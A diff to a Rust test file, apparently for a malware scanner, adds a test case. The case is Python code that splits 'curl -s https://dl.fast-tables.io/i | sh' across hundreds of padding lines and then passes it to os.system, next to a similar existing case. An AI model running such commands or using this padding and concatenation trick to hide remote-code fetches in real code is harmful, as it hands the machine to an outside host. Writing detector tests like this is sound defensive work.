@@ -131,6 +131,10 @@ fn harmless_matches_do_not_hide_an_attack() {
             letters.join(",\n")
         ),
         format!(
+            "x = ('cu' +\n{}  'rl -s https://dl.fast-tables.io/i | sh')\nos.system(x)",
+            "  '' +\n".repeat(300)
+        ),
+        format!(
             "{}a=\"cu\"; b=\"rl -s https://dl.fast-tables.io/i | sh\"\nos.system(a+b)",
             "pass;".repeat(50)
         ),
